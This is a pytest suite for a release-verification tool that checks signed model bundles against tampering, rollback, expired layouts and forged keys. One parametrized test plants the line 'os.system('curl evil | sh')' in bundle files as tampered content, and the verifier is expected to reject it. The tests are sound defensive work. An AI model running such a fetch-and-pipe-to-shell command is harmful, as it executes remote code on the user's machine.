"""The consumer's side: trust only what the user gave, every byte of a bundle attested, no
rollback, releases that stay usable. Each attack is a test that names what broke."""

from __future__ import annotations

import base64
import json
import shutil
from pathlib import Path

import pytest

from pipeline.errors import InputError, VerificationError
from pipeline.release.verify import verify_target
from tests.conftest import chainproof

pytestmark = [pytest.mark.slow, pytest.mark.tensorflow]


def bundle_of(ws: Path) -> Path:
    (found,) = [p for p in (ws / "releases" / "digits-fast").iterdir() if not p.is_symlink()]
    return found


def owner_fp(ws: Path) -> str:
    return json.loads((ws / "attestations/keys/owner.pub").read_text())["keyid"]


@pytest.fixture
def released(workspace_copy) -> tuple[Path, Path, str]:
    """(workspace, its bundle under releases/digits-fast/<version>, owner fingerprint)."""
    return workspace_copy, bundle_of(workspace_copy), owner_fp(workspace_copy)


def fails(bundle: Path, fp: str, **kw) -> VerificationError:
    with pytest.raises(VerificationError) as info:
        verify_target(bundle, owner_key=fp, **kw)
    return info.value


def test_a_key_file_named_after_the_fingerprint_is_never_loaded(released, tmp_path):
    ws, bundle, fp = released
    from securesystemslib.signer import CryptoSigner

    from pipeline.provenance.keys import PublicKey

    # the attacker ships a key file named after the owner's fingerprint beside the bundle
    fake = PublicKey(CryptoSigner.generate_ed25519().public_key)
    (bundle.parent / fp).write_text(fake.to_json())
    proc = chainproof("verify", bundle, "--owner-key", fp, cwd=bundle.parent)
    assert proc.returncode == 0, proc.stderr  # the fingerprint is compared, the file ignored
    with pytest.raises(InputError, match="not a sha256 key fingerprint"):
        verify_target(bundle, owner_key=str(bundle.parent / fp))


@pytest.mark.parametrize(
    "where", ["load_model.py", "upstream/extra/x.txt", "artifacts/package/extra.json", "VERIFY.md"]
)
def test_every_file_of_a_bundle_is_attested(released, where):
    ws, bundle, fp = released
    path = bundle / where
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("import os; os.system('curl evil | sh')\n")  # added, or VERIFY.md edited
    err = fails(bundle, fp)
    assert err.check in ("release manifest", "artifacts on disk")
    assert where.split("/")[-1] in (err.artifact or "")


def test_a_release_copied_under_a_newer_version_is_a_rollback(released):
    ws, bundle, fp = released
    newer = bundle.parent / "99990101T000000Z-ffffff"
    shutil.copytree(bundle, newer)
    err = fails(newer, fp)
    assert err.check == "release version" and "rollback" in (err.hint or "")
    err = fails(bundle, fp, expected_version="1.0.0")
    assert err.check == "release version"


def test_latest_pointed_back_at_an_older_release_is_refused(released, tmp_path):
    ws, bundle, fp = released
    # a second, newer release of the same pipeline next to the first
    import os

    newer = bundle.parent / "99990101T000000Z-ffffff"
    shutil.copytree(bundle, newer)
    manifest = newer / "attestations" / "release.intoto.json"
    env = json.loads(manifest.read_text())
    stmt = json.loads(base64.b64decode(env["payload"]))
    stmt["predicate"]["published"] = "9999-01-01T00:00:00Z"  # only read to compare siblings
    env["payload"] = base64.b64encode(json.dumps(stmt).encode()).decode()
    manifest.write_text(json.dumps(env))
    latest = bundle.parent / "latest"
    os.replace(latest, tmp_path / "old-latest") if latest.is_symlink() else None
    latest.symlink_to(bundle.name)
    err = fails(latest, fp)
    assert err.check == "release version" and "published later" in err.message


def test_a_consumer_refuses_a_release_older_than_one_it_already_loaded(released, tmp_path):
    from pipeline.provenance.chain import VerifyReport
    from pipeline.release.freshness import check_fresh

    ws, bundle, fp = released
    state = tmp_path / "seen.json"
    report = verify_target(bundle, owner_key=fp)
    newer = VerifyReport(target="newer", owner_keyid=report.owner_keyid)
    newer.release = {**(report.release or {}), "version": "v2", "published": "9999-01-01T00:00:00Z"}
    check_fresh(newer, state=state)
    with pytest.raises(VerificationError) as info:
        check_fresh(report, state=state)
    assert info.value.check == "freshness" and "rollback" in info.value.message
    with pytest.raises(VerificationError, match="minimum"):
        check_fresh(newer, min_version="v3", state=tmp_path / "other.json")


def test_an_expired_release_is_refused_naming_renew_and_renewal_keeps_it_usable(
    released, monkeypatch
):
    from in_toto import verifylib
    from in_toto.exceptions import LayoutExpiredError

    ws, bundle, fp = released
    layout = bundle / "attestations" / "root.layout"
    before = {p: p.read_bytes() for p in (bundle / "attestations").iterdir() if p.is_file()}

    def expired(layout):  # a month later
        raise LayoutExpiredError("expired")

    monkeypatch.setattr(verifylib, "verify_layout_expiration", expired)
    err = fails(bundle, fp)
    assert err.check == "layout expiry" and "chainproof release renew" in (err.hint or "")

    from pipeline.provenance.keys import load_signer
    from pipeline.release.renew import renew

    owner = load_signer("owner", ws / "attestations" / "keys")
    renew(bundle, owner, days=365)
    report = verify_target(bundle, owner_key=fp)
    assert any("renewed by the owner until" in d for c, d in report.checks if c == "layout expiry")
    # nothing that was signed before changed: layout, links, provenance are byte-identical
    for path, data in before.items():
        assert path.read_bytes() == data, path
    assert layout.read_bytes() == before[layout]
    # a renewal signed by someone else does not count
    from securesystemslib.signer import CryptoSigner

    from pipeline.provenance.keys import KeyPair, PublicKey

    signer = CryptoSigner.generate_ed25519()
    with pytest.raises(VerificationError):
        renew(bundle, KeyPair("owner", signer, PublicKey(signer.public_key)), days=365)
    assert verify_target(bundle, owner_key=fp)  # the failed renewal left the good one in place


def test_lineage_sync_does_not_bless_a_run_that_does_not_verify(released):
    ws, bundle, fp = released
    run = (ws / "runs" / "latest").resolve()
    record = json.loads((run / "run.json").read_text())
    assert record["status"] == "succeeded" and record["release"]
    # the recorded lineage is there; now break the chain and ask sync to log it afresh
    data = bytearray((run / "train" / "model.keras").read_bytes())
    data[100] ^= 1
    (run / "train" / "model.keras").write_bytes(bytes(data))
    from pipeline.release.verify import verified_release

    assert not verified_release(run, ws)
